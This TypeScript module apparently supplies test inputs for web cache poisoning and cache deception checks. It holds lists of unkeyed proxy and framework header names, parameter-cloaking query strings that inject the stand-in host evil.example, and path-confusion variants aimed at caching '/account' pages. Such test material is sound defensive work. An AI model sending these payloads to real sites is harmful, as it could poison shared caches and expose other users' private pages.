/** What attackers send to get their text into other people's pages: names, parameters, paths (FAULTS C01, C03, C11, C20). */

/** What a victim must never see. */
export const MARK = "evil.example";

/** Header names that frameworks, proxies and platforms act on, and that no key holds. */
export const HEADER_NAMES: readonly string[] = (
  "X-Forwarded-Host X-Forwarded-Proto X-Forwarded-For X-Forwarded-Port X-Forwarded-Scheme X-Forwarded-Ssl " +
  "X-Forwarded-Prefix X-Forwarded-Path X-Forwarded-Server X-Forwarded-By X-Forwarded-Uri X-Forwarded-Protocol " +
  "X-Forwarded-Context X-Forwarded X-Forward-For X-Forward-Host Forwarded Forwarded-For Forwarded-Host " +
  "Forwarded-Proto X-Host X-Original-Host X-Original-URL X-Original-URI X-Rewrite-URL X-HTTP-Method-Override " +
  "X-HTTP-Method X-Method-Override X-HTTP-DestinationURL X-HTTP-Host-Override X-Proxy-URL X-URL-Scheme X-Scheme " +
  "X-Script-Name X-Custom-IP-Authorization X-Real-IP X-Client-IP X-Remote-IP X-Remote-Addr X-Originating-IP " +
  "X-Cluster-Client-IP X-Backend-Host X-Server-Name X-Wap-Profile Client-IP True-Client-IP CF-Connecting-IP " +
  "Fastly-Client-IP Front-End-Https Base-URL Proxy Request-URI Destination-URL Redirect X-Middleware-Prefetch " +
  "X-Middleware-Rewrite X-Middleware-Subrequest X-Invoke-Path X-Invoke-Status X-Matched-Path X-Now-Route-Matches " +
  "X-Envoy-Original-Path X-MS-Original-URL CF-Visitor CloudFront-Forwarded-Proto X-Cache-Key Surrogate-Key " +
  "Surrogate-Control Cache-Tag CDN-Cache-Control X-Antipode-Country X-Antipode-Device X-Antipode-Debug"
).split(" ");

/** Ordinary fields that many pages reflect: a site with a strict list of what goes to the origin is safe from them too. */
export const ORDINARY_NAMES: readonly string[] =
  "User-Agent Referer Origin Accept Accept-Language Cookie Pragma From Purpose X-Requested-With X-Theme X-Anything Save-Data".split(
    " ",
  );

/** Queries whose key says `callback=ok` or nothing, if it is made carelessly, and whose page says something else. */
export const CLOAKED_QUERIES: readonly string[] = [
  `callback=ok&utm_content=x;callback=${MARK}`,
  `utm_content=x;callback=${MARK}&callback=ok`,
  `utm_content=x%26callback=${MARK}&callback=ok`,
  `callback=ok&utm_content=x%26callback=${MARK}`,
  `callback=ok&utm_content=x%3Bcallback=${MARK}`,
  `callback=ok&utm_callback=1&utm_content=${MARK}`,
  `utm_source=callback=${MARK}&callback=ok`,
  `callback=ok&utm_=;callback=${MARK}`,
  `utm_;callback=${MARK}`,
  `utm_content=x;callback=${MARK};y=1`,
  `utm_source=1&utm_medium=2;callback=${MARK}&utm_campaign=3&callback=ok`,
  `callback=ok&utm_content[callback]=${MARK}`,
  `callback=ok&utm%5Fcontent=x;callback=${MARK}`,
  `callback=ok&UTM_CONTENT=x;callback=${MARK}`,
  `callback=ok&c%61llback=${MARK}`,
  `callback=ok&callback=${MARK}`,
  `callback=${MARK}&callback=ok`,
  `callback=ok&Callback=${MARK}`,
  `callback=ok&+callback=${MARK}`,
  `callback=ok&callback[]=${MARK}`,
];

/** Ways of writing a path that lead some servers to `/account`; the last part makes a careless cache keep it. */
export const TRICK_PATHS: readonly string[] = [
  "/account/x.css",
  "/account/x.js",
  "/account/x.png?y=1",
  "/account/logo.svg",
  "/account;x.css",
  "/account;/x.css",
  "/account%3Bx.css",
  "/account%3fx.css",
  "/account%3F/x.css",
  "/account%23x.css",
  "/account%23/x.css",
  "/account%00x.css",
  "/account%0ax.css",
  "/account%09x.css",
  "/account.css",
  "/account.js",
  "/account//x.css",
  "/account/.css",
  "/account/x.CSS",
  "/account%2fx.css",
  "/account%2Fx.css",
  "/account%252fx.css",
  "/account%5cx.css",
  "/account/%2e%2e/account/x.css",
  "/static/../account",
  "/static/..%2faccount",
  "/static/..%2Faccount",
  "/static/%2e%2e/account",
  "/static/%2e%2e%2faccount",
  "/static/.%2e/account",
  "/static/..;/account",
  "/static/..;x=1/account",
  "/static/..%3b/account",
  "/static/..%5caccount",
  "/static/..%252faccount",
  "/static/x/../../account",
  "//static/../account",
  "/static//../account",
  "/static/./../account",
];
